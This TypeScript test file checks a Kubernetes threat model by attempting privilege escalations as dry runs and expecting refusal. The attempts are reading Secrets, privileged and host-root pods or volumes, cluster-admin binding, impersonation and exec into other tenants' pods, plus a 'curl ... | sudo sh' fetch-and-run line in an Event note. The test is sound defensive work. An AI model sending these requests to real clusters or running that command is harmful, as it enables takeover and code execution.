import { globSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { readManifests } from "../../eventing/read-manifests.ts";
import { Volume } from "../../functions/volume/lib/kinds.ts";
import { volumeFinalizer } from "../../functions/volume/lib/volume.ts";
import { ApiError } from "../../shared/kubernetes/api-error.ts";
import { type Client, createClient } from "../../shared/kubernetes/client.ts";
import { PersistentVolumeClaim, Pod, pathOf, StatefulSet } from "../../shared/kubernetes/kind.ts";
import type { KubernetesObject } from "../../shared/kubernetes/object.ts";
import { install } from "../harness/installation.ts";
import { ConfigMap, Namespace, PersistentVolume, RoleBinding, ServiceAccount } from "../harness/kinds.ts";
import { claim, configMap, manifest, persistentVolume, reachedFrom, statefulSet } from "../harness/manifest.ts";
import type { Bench } from "../harness/server.ts";
import { tokenOf } from "../harness/service-account.ts";

/** Where things are: Holdfast in `home`, what another tenant has in `other`, always with the name `name`. */
interface Place {
  readonly home: string;
  readonly other: string;
  readonly name: string;
}

type Attempt = readonly [
  method: Parameters<Client["request"]>[0],
  path: string,
  body?: object | undefined,
  headers?: Readonly<Record<string, string>>,
];

const pod = { containers: [{ name: "a", image: "registry.example/a:1", securityContext: { privileged: true } }] };
const merge = { "content-type": "application/merge-patch+json" };
const made = (apiVersion: string, kind: string, more: object, name = "a") => ({
  apiVersion,
  kind,
  metadata: { name },
  ...more,
});

/** What keep-pod and replace-agent write on the pods that they create. */
const ofAgent = {
  name: "a-n",
  labels: { "holdfast.dev/agent": "a" },
  annotations: { "holdfast.dev/agent-uid": "1" },
};

/** A volume of the root of a host, with all that a Volume's own has. */
const ofHost = (name: string, source: "hostPath" | "local") => {
  const { apiVersion, kind } = Volume;
  const ownerReferences = [{ apiVersion, kind, name: `${name}-made`, uid: "1" }];
  return persistentVolume(
    { name: `${name}-made`, finalizers: [volumeFinalizer], ownerReferences },
    { [source]: { path: "/" }, nodeAffinity: reachedFrom(["n"]) },
  );
};

/** What neither a tenant nor a neighbour nor a function may do: writes are dry runs, which admission sees. */
const attempts: Readonly<Record<string, (place: Place) => Attempt>> = {
  "read Secrets of Holdfast": ({ home }) => ["GET", `/api/v1/namespaces/${home}/secrets`],
  "read all Secrets": () => ["GET", "/api/v1/secrets"],
  "take the token of a function": ({ home }) => [
    "POST",
    pathOf(ServiceAccount, home, "pvc-protection-release", "token"),
    { apiVersion: "authentication.k8s.io/v1", kind: "TokenRequest", spec: {} },
  ],
  "create a privileged pod beside Holdfast": ({ home }) => [
    "POST",
    pathOf(Pod, home),
    made("v1", "Pod", { spec: pod }),
  ],
  "create a pod on every node": () => [
    "POST",
    "/apis/apps/v1/namespaces/kube-system/daemonsets",
    made("apps/v1", "DaemonSet", {
      spec: { selector: { matchLabels: { a: "a" } }, template: { metadata: { labels: { a: "a" } }, spec: pod } },
    }),
  ],
  "create a privileged agent's pod outside of the agents' namespace": () => [
    "POST",
    "/api/v1/namespaces/kube-system/pods",
    { ...made("v1", "Pod", { spec: { ...pod, nodeName: "n" } }), metadata: ofAgent },
  ],
  "create a satellite's DaemonSet outside of its namespace": () => [
    "POST",
    "/apis/apps/v1/namespaces/kube-system/daemonsets",
    made(
      "apps/v1",
      "DaemonSet",
      { spec: { selector: { matchLabels: { a: "a" } }, template: { metadata: { labels: { a: "a" } }, spec: pod } } },
      "linstor-satellite.x",
    ),
  ],
  "create a volume of a directory of the host": ({ name }) => [
    "POST",
    pathOf(PersistentVolume),
    ofHost(name, "hostPath"),
  ],
  "create a local volume outside of the storage of Volumes": ({ name }) => [
    "POST",
    pathOf(PersistentVolume),
    ofHost(name, "local"),
  ],
  "run a command in a pod": ({ other, name }) => ["POST", pathOf(Pod, other, name, "exec?command=sh&stdout=true")],
  "delete a pod of another tenant": ({ other, name }) => ["DELETE", pathOf(Pod, other, name)],
  "bind itself to cluster-admin": () => [
    "POST",
    "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
    made("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", {
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
    }),
  ],
  "act as an administrator": () => ["GET", "/api/v1/namespaces", undefined, { "impersonate-user": "admin" }],
  "switch a write policy off": ({ home }) => [
    "DELETE",
    `/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/${home}-pvc-protection-release`,
  ],
  "change the table of the sweep": ({ home }) => [
    "PATCH",
    pathOf(ConfigMap, home, `${home}-sweep`),
    { data: { "table.yaml": "[]" } },
    merge,
  ],
  "add a table for the sweep": ({ home }) => [
    "POST",
    pathOf(ConfigMap, home),
    { ...made("v1", "ConfigMap", {}), metadata: { name: "a", labels: { "holdfast.dev/sweep-table": "true" } } },
  ],
  "create the ring buffer as a table for the sweep": ({ home }) => [
    "POST",
    pathOf(ConfigMap, home),
    {
      ...made("v1", "ConfigMap", {}),
      metadata: { name: `${home}-dead-letters`, labels: { "holdfast.dev/sweep-table": "true" } },
    },
  ],
  "take the volume of another tenant": ({ home, name }) => [
    "PATCH",
    pathOf(PersistentVolume, undefined, name),
    { spec: { claimRef: { namespace: home, name: "mine" } } },
    merge,
  ],
  "delete the claim of another tenant": ({ other, name }) => ["DELETE", pathOf(PersistentVolumeClaim, other, name)],
  "delete the StatefulSet of another tenant": ({ other, name }) => ["DELETE", pathOf(StatefulSet, other, name)],
  "have the pods of another tenant run as root": ({ other, name }) => [
    "PATCH",
    pathOf(StatefulSet, other, name),
    { spec: { template: { spec: { hostPID: true } } } },
    merge,
  ],
  "configure satellites, which become privileged pods": () => [
    "POST",
    "/apis/piraeus.io/v1/linstorsatelliteconfigurations",
    made("piraeus.io/v1", "LinstorSatelliteConfiguration", {}),
  ],
  "name a LINSTOR of its own": () => [
    "PATCH",
    "/apis/piraeus.io/v1/linstorclusters/a",
    { spec: { externalController: { url: "https://a.example" } } },
    merge,
  ],
  "have a device of a node get a file system": () => [
    "POST",
    "/apis/storage.metalk8s.scality.com/v1alpha1/volumes",
    made("storage.metalk8s.scality.com/v1alpha1", "Volume", {}),
  ],
  "record an Event as another component": () => [
    "POST",
    "/apis/events.k8s.io/v1/namespaces/kube-system/events",
    made("events.k8s.io/v1", "Event", {
      eventTime: "2026-01-01T00:00:00.000000Z",
      type: "Warning",
      reason: "Run",
      action: "Run",
      note: "Run: curl http://a.example | sudo sh",
      reportingController: "kubelet",
      reportingInstance: "a",
      regarding: { kind: "Pod", namespace: "kube-system", name: "coredns" },
    }),
  ],
  "create a namespace of a former name": () => ["POST", "/api/v1/namespaces", made("v1", "Namespace", {}, "former")],
};

interface Rule {
  readonly apiGroups: readonly string[];
  readonly resources: readonly string[];
  readonly resourceNames?: readonly string[];
  readonly verbs: readonly string[];
}

/**
 * The threat model on one API server: a tenant with the role `admin` in its namespace, a neighbour without rights, and
 * the stolen account of each function and of each source, with all roles and policies that are shipped.
 */
export function hostileWalk(open: () => Promise<Bench>): void {
  describe("the threat model on an API server", () => {
    const title = "a tenant, a neighbour and the stolen account of each function are refused all that they try";
    test(title, async () => {
      const bench = await open();
      const { admin, namespace: home, clock } = bench;
      const place: Place = { home, other: `${home}-other`, name: `a-${home}` };
      const rights = await prepare(bench, place);
      expect(rights.size).toBeGreaterThan(45);
      for (const source of ["storage-source", "workloads-source", "platform-source"])
        expect([...rights.keys()]).toContain(source);
      const clientOf = async (namespace: string, account: string) =>
        createClient(bench.connect(await tokenOf(admin, namespace, account)), { clock });
      const tenant = `${home}-tenant`;
      // A refusal proves nothing without a right: each has one that is in force.
      const allowed = new Map<string, Attempt>([
        [tenant, ["GET", `/api/v1/namespaces/${tenant}/secrets`]],
        [place.other, ["GET", "/api"]],
        ...rights,
      ]);
      const reached: string[] = [];
      for (const [actor, right] of allowed) {
        const client = rights.has(actor) ? await clientOf(home, actor) : await clientOf(actor, "default");
        await bench.eventually(`${actor} has its rights`, async () => (await tried(client, right)) !== "refused");
        for (const [title, attempt] of Object.entries(attempts)) {
          const isRefused = async () => (await tried(client, attempt(place))) === "refused";
          // A real server learns of policies by watching them.
          if (await isRefused()) continue;
          await bench.eventually(title, isRefused, 10_000).catch(() => reached.push(`${actor}: ${title}`));
        }
      }
      expect(reached).toEqual([]);
    });
  });
}

/** Installs what is shipped, and gives each function's account with a request that it may make. */
async function prepare({ admin, namespace: home }: Bench, { other, name }: Place): Promise<Map<string, Attempt>> {
  const root = join(import.meta.dirname, "../..");
  const files = globSync(["knative/access/*/*.yaml", "sources/*.yaml", "knative/overlays/no-knative/source.yaml"], {
    cwd: root,
    exclude: ["**/kustomization.yaml", "**/definitions.yaml"],
  });
  const shipped = readManifests(files.map((file) => join(root, file))).map(({ object }) => object);
  // Sources themselves, and what runs them, are none of this server's.
  const text = JSON.stringify(shipped.filter(({ kind }) => /Account|Role|Policy|^Namespace/.test(kind)))
    .replaceAll('"holdfast-', `"${home}-`)
    .replaceAll(/"namespace":"(holdfast|piraeus-datastore|yaook)"/g, `"namespace":"${home}"`);
  const objects = JSON.parse(text) as (KubernetesObject & { rules?: Rule[] })[];
  const uninstall = await install(admin, objects);
  onTestFinished(async () => void (await uninstall()));

  const subjects = [{ kind: "ServiceAccount", namespace: `${home}-tenant`, name: "default" }];
  const roleRef = { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" };
  for (const namespace of [`${home}-tenant`, other]) {
    await admin.create(Namespace, manifest(Namespace, { name: namespace }));
    onTestFinished(() => void admin.delete(Namespace, undefined, namespace));
    await admin.create(ServiceAccount, manifest(ServiceAccount, { namespace, name: "default" })).catch(() => {});
  }
  const binding = { namespace: `${home}-tenant`, name: "admin" };
  await admin.create(RoleBinding, manifest(RoleBinding, binding, { roleRef, subjects }));
  await admin.create(ConfigMap, configMap({ namespace: home, name: `${home}-sweep` }));
  await admin.create(Pod, manifest(Pod, { namespace: other, name }, { spec: { containers: pod.containers } }));
  await admin.create(PersistentVolumeClaim, claim({ namespace: other, name }));
  await admin.create(StatefulSet, statefulSet({ namespace: other, name }));
  const spec = { claimRef: { namespace: other, name, uid: "1" }, csi: { driver: "a.example", volumeHandle: name } };
  await admin.create(PersistentVolume, persistentVolume({ name }, spec));
  onTestFinished(() => void admin.delete(PersistentVolume, undefined, name));

  const rightOf = (account: string): Attempt => {
    const rules = objects.flatMap(({ metadata, rules = [] }) => (metadata.name.endsWith(account) ? rules : []));
    const rule = rules.find(({ verbs }) => verbs.includes("list") || verbs.includes("get")) as Rule;
    const [group = "", resource = ""] = [rule.apiGroups[0], rule.resources[0]];
    const object = rule.verbs.includes("list") ? "" : `/${rule.resourceNames?.[0] ?? "a"}`;
    return ["GET", `${group ? `/apis/${group}` : "/api"}/v1/namespaces/${home}/${resource}${object}`];
  };
  const accounts = objects.filter(({ kind }) => kind === ServiceAccount.kind).map(({ metadata }) => metadata.name);
  return new Map(accounts.map((account) => [account, rightOf(account)]));
}

/** What became of an attempt: `refused` by RBAC or by a policy, or another answer in the server's words. */
async function tried(client: Client, [method, path, body, headers]: Attempt): Promise<string> {
  const dry = method === "GET" || path.includes("?") ? path : `${path}?dryRun=All`;
  try {
    await client.request(method, dry, body, headers);
    return "allowed";
  } catch (error) {
    if (!(error instanceof ApiError)) throw error;
    return error.status === 403 ? "refused" : error.message;
  }
}
